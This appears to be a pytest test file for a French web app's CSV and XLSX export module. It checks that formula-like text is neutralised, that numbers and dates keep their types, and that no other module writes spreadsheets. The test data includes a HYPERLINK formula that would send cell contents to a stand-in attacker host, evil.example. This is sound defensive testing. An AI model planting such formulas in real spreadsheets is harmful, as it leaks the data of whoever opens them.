"""The one CSV and XLSX writer: no typed text is ever run as a formula, numbers and dates keep their
type; and no other module writes CSV or XLSX."""

import ast
import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cabas.lib import spreadsheet

CABAS = Path(__file__).resolve().parents[2]
WRITER = CABAS / "lib" / "spreadsheet.py"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "+33 6 12 34 56 78",
    "-5 % sur les courgettes",
    "@SUM(A1)",
    "\tx",
    "\rx",
]


def csv_cells(lines, delimiter=";") -> list[list[str]]:
    text = "".join(lines).removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def xlsx_sheet(header, rows):
    data = spreadsheet.xlsx_bytes(header, rows, sheet_title="feuille")
    return load_workbook(io.BytesIO(data)).active  # not read-only: it keeps the cell types


# --- CSV --------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", FORMULAS)
def test_it_writes_a_csv_text_starting_like_a_formula_after_an_apostrophe(value):
    for dialect in (spreadsheet.FRENCH, spreadsheet.INTERCHANGE):
        lines = spreadsheet.csv_lines(["a"], [[value]], dialect=dialect)
        [_header, [cell]] = csv_cells(lines, dialect.delimiter)

        assert cell == "'" + value
        assert spreadsheet.unneutralised(cell) == value


def test_it_writes_plain_text_as_it_is_and_an_import_leaves_other_apostrophes_alone():
    [_header, row] = csv_cells(spreadsheet.csv_lines(["a", "b", "c"], [["Carottes", "l'été", "x;y\nz"]]))

    assert row == ["Carottes", "l'été", "x;y\nz"]
    assert spreadsheet.unneutralised("'Bio") == "'Bio"
    assert spreadsheet.unneutralised("l'été") == "l'été"
    assert spreadsheet.unneutralised("'") == "'"


def test_it_writes_numbers_dates_and_empty_cells_the_french_way():
    row = [Decimal("-12.5"), spreadsheet.amount(Decimal("1234.5")), spreadsheet.amount(None), -3,
           Decimal("5E+2"), None, "", True, datetime.date(2026, 3, 9),
           datetime.datetime(2026, 3, 9, 8, 5, tzinfo=datetime.UTC)]

    lines = list(spreadsheet.csv_lines(["h"] * len(row), [row]))

    assert lines[0].startswith("\ufeffh;h;")
    assert lines[1] == "-12,5;1234,50;0,00;-3;500;;;1;09/03/2026;09/03/2026 09:05\r\n"  # Paris time
    assert spreadsheet.date(datetime.date(2026, 3, 9)) == "09/03/2026"


def test_it_writes_the_interchange_dialect_with_commas_points_and_no_bom():
    lines = list(spreadsheet.csv_lines(["name", "price"], [["Jus, trouble", Decimal("2.50")],
                                                            [datetime.date(2026, 3, 9), Decimal("0.75")]],
                                       dialect=spreadsheet.INTERCHANGE))

    assert lines == ["name,price\r\n", '"Jus, trouble",2.50\r\n', "2026-03-09,0.75\r\n"]


def test_it_streams_the_csv_as_a_download():
    response = spreadsheet.csv_response(iter(["a\r\n"]), "clients.csv")

    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="clients.csv"'


# --- XLSX -------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", FORMULAS)
def test_it_writes_an_xlsx_text_starting_like_a_formula_as_a_string_kept_as_typed(value):
    sheet = xlsx_sheet(["a"], [[value]])

    cell = sheet["A2"]
    assert cell.data_type == "s"
    # XML reads a carriage return as a line feed: the only change, and it cannot start a formula.
    assert cell.value == value.replace("\r", "\n")


def test_it_keeps_numbers_and_dates_typed_and_writes_no_formula():
    row = [Decimal("2.50"), -3, None, "", "Carottes", datetime.date(2026, 3, 9),
           datetime.datetime(2026, 3, 9, 8, 5, tzinfo=datetime.UTC), "a\x00b", "=1+1"]

    sheet = xlsx_sheet(["h"] * len(row), [row])

    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [c.value for c in cells[:5]] == [2.5, -3, None, None, "Carottes"]
    assert [c.data_type for c in cells[:2]] == ["n", "n"]
    assert cells[5].is_date and cells[5].value == datetime.datetime(2026, 3, 9)
    assert cells[5].number_format == "dd/mm/yyyy"
    assert cells[6].is_date and cells[6].value == datetime.datetime(2026, 3, 9, 9, 5)  # local time
    assert cells[7].value == "ab"  # a control character XLSX cannot hold is left out, not an error
    assert not [c for r in sheet.iter_rows() for c in r if c.data_type == "f"]


def test_it_sends_the_xlsx_as_a_download():
    response = spreadsheet.xlsx_response(b"PK", "produits.xlsx")

    assert response["Content-Type"] == spreadsheet.XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="produits.xlsx"'


# --- No other writer --------------------------------------------------------------------------

OPENPYXL_READERS = {"load_workbook"}
SHEET = re.compile(r"sheet|\bws\b|\.active$", re.IGNORECASE)


def _spreadsheet_writes(source: str) -> list[int]:
    """Lines of `source` that write CSV or XLSX: csv.writer / csv.DictWriter, an openpyxl import other
    than load_workbook (Workbook, WriteOnlyCell...), a `.cell(` or an `.append(` on a worksheet."""
    tree = ast.parse(source)
    csv_names = {"csv"}
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name == "csv" and alias.asname:
                    csv_names.add(alias.asname)
                if alias.name.split(".")[0] in {"openpyxl", "xlsxwriter"}:
                    found.append(node.lineno)
        elif isinstance(node, ast.ImportFrom):
            module = (node.module or "").split(".")[0]
            names = {alias.name for alias in node.names}
            if module == "csv" and names & {"writer", "DictWriter", "*"}:
                found.append(node.lineno)
            if module == "openpyxl" and names - OPENPYXL_READERS or module == "xlsxwriter":
                found.append(node.lineno)
        elif isinstance(node, ast.Call):
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
            if name in {"Workbook", "WriteOnlyCell"}:
                found.append(node.lineno)
            elif isinstance(func, ast.Attribute):
                receiver = ast.unparse(func.value)
                csv_writer = name in {"writer", "DictWriter"} and receiver in csv_names
                sheet_write = name == "cell" or name == "append" and SHEET.search(receiver)
                if csv_writer or sheet_write:
                    found.append(node.lineno)
    return sorted(set(found))


def test_the_scan_finds_every_way_of_writing_a_spreadsheet():
    source = "\n".join([
        "import csv",
        "writer = csv.writer(out, delimiter=';')",
        "writer = csv.DictWriter(out, fieldnames=['a'])",
        "from csv import writer",
        "import csv as c; c.writer(out)",
        "from openpyxl import Workbook",
        "import openpyxl",
        "workbook = openpyxl.Workbook(write_only=True)",
        "sheet.append(['=1+1'])",
        "workbook.active.append(row)",
        "ws.cell(row=1, column=1, value='=1+1')",
        "from openpyxl.cell import WriteOnlyCell",
    ])

    assert _spreadsheet_writes(source) == list(range(2, 13))


def test_the_scan_lets_code_read_spreadsheets_and_append_to_lists():
    source = "\n".join([
        "import csv",
        "from openpyxl import load_workbook",
        "rows = list(csv.reader(text, delimiter=';'))",
        "records = csv.DictReader(text)",
        "workbook = load_workbook(data, read_only=True)",
        "rows.append(cells)",
        "problems.append(Problem(1, None, 'x'))",
    ])

    assert _spreadsheet_writes(source) == []


def test_no_module_but_the_spreadsheet_writer_writes_csv_or_xlsx():
    offenders = []
    for path in sorted(CABAS.rglob("*.py")):
        if "migrations" in path.parts or "tests" in path.parts or path == WRITER:
            continue  # tests read and build files to check the exports
        lines = _spreadsheet_writes(path.read_text(encoding="utf-8"))
        offenders += [f"{path.relative_to(CABAS.parent)}:{line}" for line in lines]
    assert not offenders, f"write CSV and XLSX with cabas.lib.spreadsheet (formulas neutralised): {offenders}"


def test_the_scan_sees_the_writer_module_itself():
    assert _spreadsheet_writes(WRITER.read_text(encoding="utf-8"))
